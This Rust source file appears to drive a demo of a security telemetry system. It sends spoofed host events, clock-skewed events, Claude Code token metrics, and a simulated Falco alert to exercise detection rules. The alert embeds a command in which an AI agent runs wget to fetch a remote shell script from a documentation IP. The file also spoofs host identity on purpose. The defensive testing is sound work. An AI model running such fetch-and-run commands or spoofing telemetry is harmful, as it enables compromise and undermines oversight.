//! The demo's producers: credentials for the simulator (all hosts) and one laptop (its
//! own host), the laptop's spoofing attempt and Falco alert, a host whose clock runs
//! fast, and an agent's metrics.

use cordon_schemas::FlatEvent;

use crate::Config;
use crate::simulate::senders::{SendReport, Sender};

/// The demo's producer credentials: the simulator relays the whole fleet as a
/// Collector would; one laptop has a credential for itself only.
pub struct DemoProducers {
    pub collector: String,
    pub laptop: String,
}

pub fn demo_producers(config: &mut Config) -> Option<DemoProducers> {
    if !config.producers.credentials.is_empty() {
        return None;
    }
    let producers = DemoProducers {
        collector: format!("demo-collector-{}", uuid::Uuid::new_v4().simple()),
        laptop: format!("demo-wks-0042-{}", uuid::Uuid::new_v4().simple()),
    };
    let credential = |name: &str, token: &str, host: &str| cordon_ingest::auth::CredentialConfig {
        name: name.into(),
        token: Some(token.into()),
        hosts: vec![host.into()],
        ..Default::default()
    };
    config.producers.credentials = vec![
        credential("demo-collector", &producers.collector, "*"),
        credential("wks-0042", &producers.laptop, "wks-0042"),
    ];
    Some(producers)
}

/// wks-0042's credential sends events claiming to be ceo-laptop: they are rejected
/// and the `telemetry-spoofing` rule raises an alert naming the producer.
pub async fn send_spoofed_events(endpoint: &str, laptop_token: &str) -> anyhow::Result<()> {
    let now = cordon_schemas::time::now_nanos();
    let events: Vec<FlatEvent> = (0..3)
        .map(|index| {
            let mut event = FlatEvent::new(now + index, "credential.pop_failure", "ceo-laptop");
            event
                .set("event.id", format!("spoofed-{index}"))
                .set("user.name", "ceo")
                .set("credential.token_id", "tok-ceo-1");
            event
        })
        .collect();
    let mut sender = Sender::grpc(endpoint).await?.with_token(Some(laptop_token));
    let mut report = SendReport::default();
    sender.send(&events, &mut report).await?;
    println!(
        "  wks-0042's credential sent {} events claiming host ceo-laptop: {} rejected (host_not_permitted), a telemetry-spoofing finding stored",
        report.sent, report.rejected
    );
    Ok(())
}

/// A host whose clock runs five minutes fast: its events are stored flagged, evaluated,
/// and move no clock; data health names it.
pub async fn send_fast_clock_host(sender: &mut Sender) -> anyhow::Result<()> {
    let now = cordon_schemas::time::now_nanos();
    let events: Vec<FlatEvent> = (0..5)
        .map(|index| {
            let mut event = FlatEvent::new(now + (300 + index) * 1_000_000_000, "network.flow", "wks-fast-clock");
            event
                .set("event.id", format!("fast-clock-{index}"))
                .set("user.name", "dana")
                .set("destination.address", "api.anthropic.com")
                .set_int("destination.port", 443);
            event
        })
        .collect();
    let mut report = SendReport::default();
    sender.send(&events, &mut report).await?;
    println!(
        "  sent {} events from wks-fast-clock, whose clock runs 5 minutes fast",
        report.sent
    );
    Ok(())
}

/// An agent's metrics, as Claude Code exports them beside its logs: accepted and
/// counted, not stored.
pub async fn send_agent_metrics(endpoint: &str, token: Option<&str>) -> anyhow::Result<usize> {
    use opentelemetry_proto::tonic::collector::metrics::v1::ExportMetricsServiceRequest;
    use opentelemetry_proto::tonic::collector::metrics::v1::metrics_service_client::MetricsServiceClient;
    use opentelemetry_proto::tonic::common::v1::{AnyValue, KeyValue, any_value};
    use opentelemetry_proto::tonic::metrics::v1::{
        Metric, NumberDataPoint, ResourceMetrics, ScopeMetrics, Sum, metric, number_data_point,
    };
    let text = |key: &str, value: &str| KeyValue {
        key: key.into(),
        value: Some(AnyValue {
            value: Some(any_value::Value::StringValue(value.into())),
        }),
        ..Default::default()
    };
    let now = cordon_schemas::time::now_nanos() as u64;
    let data_points: Vec<NumberDataPoint> = ["input", "output", "cacheRead"]
        .iter()
        .map(|kind| NumberDataPoint {
            attributes: vec![text("type", kind)],
            time_unix_nano: now,
            value: Some(number_data_point::Value::AsDouble(1000.0)),
            ..Default::default()
        })
        .collect();
    let points = data_points.len();
    let request = ExportMetricsServiceRequest {
        resource_metrics: vec![ResourceMetrics {
            resource: Some(opentelemetry_proto::tonic::resource::v1::Resource {
                attributes: vec![text("service.name", "claude-code"), text("host.id", "wks-0001")],
                ..Default::default()
            }),
            scope_metrics: vec![ScopeMetrics {
                metrics: vec![Metric {
                    name: "claude_code.token.usage".into(),
                    unit: "tokens".into(),
                    data: Some(metric::Data::Sum(Sum {
                        data_points,
                        aggregation_temporality: 1,
                        is_monotonic: true,
                    })),
                    ..Default::default()
                }],
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let mut request = tonic::Request::new(request);
    if let Some(token) = token {
        request
            .metadata_mut()
            .insert("authorization", format!("Bearer {token}").parse()?);
    }
    MetricsServiceClient::connect(endpoint.to_string())
        .await?
        .export(request)
        .await?;
    Ok(points)
}

/// One alert as Falco's `http_output` (or falcosidekick's webhook) posts it, from the
/// laptop: the agent `claude` spawned `wget`. Mapped to a `process.start` attributed to
/// the agent, which `agent-spawned-network-tool` raises.
pub async fn send_falco_alert(http: &str, token: &str) -> anyhow::Result<()> {
    let now = chrono::Utc::now();
    let alert = serde_json::json!({
        "uuid": uuid::Uuid::new_v4().to_string(),
        "hostname": "wks-0042",
        "output": format!("{}: Notice Agent child process (user=dana command=wget -qO- http://203.0.113.9/i.sh parent=claude)", now.format("%H:%M:%S%.9f")),
        "priority": "Notice",
        "rule": "Agent child process",
        "source": "syscall",
        "tags": ["process", "ai_agent"],
        "time": now.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true),
        "output_fields": {
            "evt.type": "execve",
            "proc.name": "wget",
            "proc.exepath": "/usr/bin/wget",
            "proc.cmdline": "wget -qO- http://203.0.113.9/i.sh",
            "proc.pid": 7001,
            "proc.ppid": 7000,
            "proc.pname": "claude",
            "user.name": "dana"
        }
    });
    let response = reqwest::Client::new()
        .post(format!("{http}/v1/falco"))
        .bearer_auth(token)
        .json(&alert)
        .send()
        .await?;
    anyhow::ensure!(response.status().is_success(), "/v1/falco: {}", response.status());
    println!(
        "  Falco's alert (as its http_output posts it) that claude spawned wget on wks-0042: mapped to a process.start attributed to the agent"
    );
    Ok(())
}
